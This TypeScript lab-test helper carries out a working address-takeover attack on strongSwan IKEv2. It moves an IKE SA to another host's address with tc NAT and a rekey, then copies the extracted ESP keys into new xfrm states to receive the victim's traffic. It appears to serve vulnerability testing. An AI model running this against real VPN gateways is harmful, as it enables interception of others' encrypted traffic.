import assert from "node:assert/strict";
import { now, until } from "../faults/traffic";
import type { LabHost } from "../lab-host";
import type { Attacker } from "./attacker";
import type { Claim } from "./connection";

/** Reads of charon and the kernel about one IKE SA, and a wait for what is rekeyed. */
const functions = (name: string) => `set -e
  ike() { swanctl --list-sas --ike ${name} | sed -n 's/^[a-z].*, ESTABLISHED, IKEv2, \\([0-9a-f]*\\)_i.*/\\1/p' | tail -n 1; }
  spi() { swanctl --list-sas --ike ${name} | awk -v side="$1" '/INSTALLED/ { there = 1 } there && $1 == side { sub(",", "", $2); print $2; exit }'; }
  key() { ip xfrm state | awk -v spi="spi 0x$1 " 'index($0, spi) { there = 1 } there && /aead/ { print $3; exit }'; }
  rekey() {
    before=$($2 $3)
    swanctl --rekey $1 >/dev/null
    for try in $(seq 300); do
      after=$($2 $3)
      if [ -n "$after" ] && [ "$after" != "$before" ]; then return; fi
      sleep 0.2
    done
    echo "not rekeyed: $1" >&2
    return 1
  }`;

/**
 * Has all that charon sends come from another address, and prints the SPI of what the peer is to send by. Connection
 * tracking would leave the address as it is where the peer's packet (it asks every 10 s) came first.
 */
const moveTo = ({ name, local: own, remote: victim }: Claim, taken: string) => `${functions(name)}
  tc qdisc add dev eth0 clsact
  nat() { tc filter add dev eth0 $1 protocol ip flower ip_proto udp src_ip $2 dst_ip $3 action nat $1 $4 $5; }
  nat egress ${own} ${victim} ${own} ${taken}
  nat ingress ${victim} ${taken} ${taken} ${own}
  rekey '--child all' spi in
  spi in`;

/** Gives the newest association the other address, in the attacker's kernel: charon there knows nothing of the move. */
const useAs = ({ name, local: own, remote: victim }: Claim, taken: string) => `${functions(name)}
  in=$(spi in) out=$(spi out)
  in_key=$(key "$in") out_key=$(key "$out")
  ip xfrm state del src ${own} dst ${victim} proto esp spi "0x$out"
  ip xfrm state del src ${victim} dst ${own} proto esp spi "0x$in"
  state() { ip xfrm state add src "$1" dst "$2" proto esp spi "0x$3" reqid 77 mode transport aead 'rfc4106(gcm(aes))' "$4" 128 $5; }
  # Far enough ahead of what was sent before.
  state ${taken} ${victim} "$out" "$out_key" 'replay-oseq 1000'
  state ${victim} ${taken} "$in" "$in_key"
  policy() { ip xfrm policy add src "$1" dst "$2" dir "$3" tmpl src "$1" dst "$2" proto esp reqid 77 mode transport; }
  policy ${taken} ${victim} out
  policy ${victim} ${taken} in`;

/** Waits until a host's kernel sends to an address by the association with this SPI. */
async function goesBy(host: LabHost, address: string, spi: string): Promise<void> {
  const wrong = async () => {
    const policy = await host.text(`ip xfrm policy list dst ${address}/32 dir out`);
    return policy.includes(`spi 0x${spi} `) ? undefined : `${host.name} does not send by ${spi}: ${policy}`;
  };
  await until(wrong, { since: now(), within: 60 });
}

/** Packets that came by the association as the attacker uses it. */
async function received({ host }: Attacker, { remote: victim }: Claim, taken: string): Promise<number> {
  const state = await host.text(`ip -s xfrm state list src ${victim} dst ${taken} proto esp`);
  const packets = /lifetime current:\s+\d+\(bytes\), (\d+)\(packets\)/.exec(state)?.[1];
  assert.ok(packets !== undefined, state);
  return Number(packets);
}

/**
 * Agrees on a link with a peer as itself, then moves it to the address of another host: charon follows the source of
 * the second request of an IKE SA wherever it comes from, and after a rekeying the requests are counted anew
 * (`process_message` in strongSwan's task_manager_v2.c). IPv4.
 * @param work begins once what the victim sends to that address goes by the attacker's association; it is told how
 * many packets came by that
 */
export async function withMovedLink(
  attacker: Attacker,
  claim: Claim,
  { victim, taken }: { victim: LabHost; taken: string },
  work: (received: () => Promise<number>) => Promise<void>,
): Promise<void> {
  const { host } = attacker;
  const { name } = claim;
  await attacker.takeCharon();
  const said = await attacker.initiate([claim]);
  assert.match(said.get(name) ?? "", /initiate completed successfully/);
  await host.text(`${functions(name)}\n  rekey '--ike ${name}' ike`);
  await attacker.posing([taken], [victim], async () => {
    try {
      await goesBy(victim, taken, (await host.text(moveTo(claim, taken))).trim());
      await host.text(useAs(claim, taken));
      await work(() => received(attacker, claim, taken));
    } finally {
      await host.text("tc qdisc del dev eth0 clsact; ip xfrm policy flush; ip xfrm state flush");
    }
  });
}
